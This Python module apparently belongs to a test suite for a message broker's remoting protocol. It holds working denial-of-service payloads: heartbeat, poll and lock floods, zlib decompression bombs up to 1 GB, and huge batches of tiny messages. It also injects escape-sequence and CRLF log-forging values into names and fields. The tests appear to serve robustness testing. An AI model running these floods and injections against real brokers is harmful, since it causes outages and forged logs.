"""Whole requests that cost more than they look, or are too many."""

import itertools
import json
import struct
import zlib
from collections.abc import Iterator

from tests.attacks.remoting.wire import RemotingWire
from tests.attacks.requests import ESCAPE, FORGED
from tests.attacks.target import TOPIC, Target

SEND, SEND_BATCH, PULL, HEARTBEAT, ROUTE, LOCK = 310, 320, 11, 34, 105, 41
_FILL_TIMEOUT_S = 60.0
_PATIENCE_S = 2.0
_AT_ONCE = 200
_MEMBERS = 50
_IDS = 100_000
_POLLS = 10_000
_POLLING_CONNECTIONS = 3
_TINY = 400_000
_QUEUES = 4000
_GROUPS = 250
_GROUPS_TOO_MANY = 5000
_COMPRESSED = 1
_MIB = 1 << 20


def send_fields(topic: str, **more: object) -> dict[str, object]:
    """The header fields of a send (310)."""
    fields: dict[str, object] = {"a": "PG", "b": topic, "c": "TBW102", "d": 4, "e": 0, "f": 0, "g": 1, "h": 0, "i": ""}
    return {**fields, "j": 0, "k": "false", "m": "false", **more}


def fill_topic(target: Target) -> None:
    """Make the topic, with 6.5 MB in its queues."""
    with RemotingWire(target.remoting) as wire:
        for number in range(100):
            wire.call(SEND, bytes(64 << 10), **send_fields(TOPIC, e=number % 4))
            assert wire.wait_for_answers(number + 1, _FILL_TIMEOUT_S), "the topic could not be filled"


def heartbeat_body(client_id: str, *groups: str, topics: tuple[str, ...] = (TOPIC,)) -> bytes:
    """The body of a heartbeat of a member of these groups."""
    subscriptions = [{"topic": topic, "subString": "*", "subVersion": 1} for topic in topics]
    consumers = [{"groupName": group, "subscriptionDataSet": subscriptions} for group in groups]
    return json.dumps({"clientID": client_id, "producerDataSet": [], "consumerDataSet": consumers}).encode()


def _flood(target: Target, requests: Iterator[tuple[int, bytes, dict[str, object]]]) -> None:
    """Send requests, some at once, and read their answers."""
    for _ in target.rounds():
        with target.remoting_wire() as wire:
            while target.left_s:
                code, body, fields = next(requests)
                wire.call(code, body, **fields)
                target.count("calls")
                wire.wait_for_answers(wire.sent - _AT_ONCE, min(_PATIENCE_S, target.left_s))


def heartbeats_of_many_clients(target: Target) -> None:
    """Heartbeats of 100,000 client ids in as many groups, over few connections."""
    _flood(
        target,
        ((HEARTBEAT, heartbeat_body(f"client-{n % _IDS}", f"group-{n % _IDS}"), {}) for n in itertools.count()),
    )


def connections_of_many_clients(target: Target) -> None:
    """Heartbeats of 100,000 client ids in one group, each over a connection of its own; 50 are closed together."""
    for number in target.rounds():
        with target.remoting_wires() as connect:
            for each in range(_MEMBERS):
                wire = connect()
                wire.call(HEARTBEAT, heartbeat_body(f"client-{(number * _MEMBERS + each) % _IDS}", "crowded"))
                if not target.left_s:
                    return


def heartbeats_of_many_groups(target: Target) -> None:
    """A client that is in 250 groups, each time in others, or in 5,000."""

    def bodies() -> Iterator[tuple[int, bytes, dict[str, object]]]:
        for number in itertools.count():
            count = _GROUPS if number % 2 else _GROUPS_TOO_MANY
            yield HEARTBEAT, heartbeat_body("greedy", *(f"many-{number}-{n}" for n in range(count))), {}

    _flood(target, bodies())


def heartbeats_that_differ(target: Target) -> None:
    """A client whose subscriptions are 1,000 topics, each time others."""

    def bodies() -> Iterator[tuple[int, bytes, dict[str, object]]]:
        for number in itertools.count():
            topics = tuple(f"topic-{number}-{n}" for n in range(1000))
            yield HEARTBEAT, heartbeat_body("differing", "differing", topics=topics), {}

    _flood(target, bodies())


def long_polls(target: Target) -> None:
    """Pulls that wait, as many as a connection may have and more, on three connections."""
    for _ in target.rounds():
        with target.remoting_wires() as connect:
            wires = [connect() for _ in range(_POLLING_CONNECTIONS)]
            for at in range(0, _POLLS, _AT_ONCE):
                for number, wire in enumerate(wires):
                    wire.send(b"".join(_poll(wire, number, at + each) for each in range(_AT_ONCE)))
                    target.count("calls", _AT_ONCE)
                if not target.left_s:
                    return
            while target.left_s:
                wires[0].wait_for_answers(1 << 30, min(_PATIENCE_S, target.left_s))


def _poll(wire: RemotingWire, connection: int, number: int) -> bytes:
    return wire.request(
        PULL,
        consumerGroup=f"waiting-{connection}",
        topic=TOPIC,
        queueId=number % 4,
        queueOffset=25,  # the end of each queue
        maxMsgNums=32,
        sysFlag=2 | 4,
        suspendTimeoutMillis=30_000,
        subscription="*",
    )


def locks_of_many_clients(target: Target) -> None:
    """4,000 queues locked at once, that exist or don't, each time by another client and group."""

    def bodies() -> Iterator[tuple[int, bytes, dict[str, object]]]:
        for number in itertools.count():
            queues = [{"topic": TOPIC, "brokerName": "broker-0", "queueId": n} for n in range(_QUEUES)]
            body = {"consumerGroup": f"locking-{number}", "clientId": f"locker-{number}", "mqSet": queues}
            yield LOCK, json.dumps(body).encode(), {}

    _flood(target, bodies())


def offsets_of_many_groups(target: Target) -> None:
    """Offsets of groups and queues that nobody has, asked for and committed."""

    def requests() -> Iterator[tuple[int, bytes, dict[str, object]]]:
        for number in itertools.count():
            named = {"consumerGroup": f"offsets-{number % _IDS}", "topic": TOPIC, "queueId": number % 1000}
            yield 14 + number % 2, b"", {**named, "commitOffset": number}

    _flood(target, requests())


def compressed_bombs(target: Target) -> None:
    """Bodies of 15 KB that are 15 MB when inflated, and one that is 1 GB."""
    bomb, great = zlib.compress(bytes(15 * _MIB)), _great_bomb()
    _flood(
        target,
        ((SEND, bomb if n % 10 else great, send_fields(TOPIC, f=_COMPRESSED)) for n in itertools.count()),
    )


def _great_bomb() -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(_MIB)) for _ in range(1024)) + packer.flush()


def tiny_messages(target: Target) -> None:
    """A batch of 400,000 messages of one byte."""
    one = struct.pack(">iiiii", 23, 0, 0, 0, 1) + b"x" + struct.pack(">h", 0)
    batch = one * _TINY
    _flood(target, ((SEND_BATCH, batch, send_fields(TOPIC, m="true")) for _ in itertools.count()))


def topics_in_a_loop(target: Target) -> None:
    """Topics that are made by being used."""
    _flood(target, ((SEND, b"x", send_fields(f"made-{number}")) for number in itertools.count()))


def control_characters(target: Target) -> None:
    """Names, ids and fields that would be seen in a log or on a terminal."""
    evil = f"{ESCAPE}x\n{FORGED}\r\n"

    def requests() -> Iterator[tuple[int, bytes, dict[str, object]]]:
        for number in itertools.count():
            yield HEARTBEAT, heartbeat_body(f"{number}{evil}", "evil"), {}
            yield HEARTBEAT, heartbeat_body("evil", f"{number}{evil}"), {}
            yield HEARTBEAT, heartbeat_body("evil", "evil", topics=(evil,)), {}
            yield ROUTE, b"", {"topic": evil}
            yield SEND, b"x", send_fields(evil, i=f"UNIQ_KEY\x01{evil}")
            yield SEND, b"x", send_fields(TOPIC, i=f"TAGS\x01{evil}\x02{evil}\x01x\x02UNIQ_KEY\x01{evil}")
            yield PULL, b"", {"consumerGroup": evil, "topic": evil, "queueId": evil, "queueOffset": evil}
            yield LOCK, heartbeat_body("evil", "evil"), {evil: evil}
            yield 36, b"", {"group": evil, "offset": 1, "originMsgId": evil, "originTopic": evil}

    _flood(target, requests())
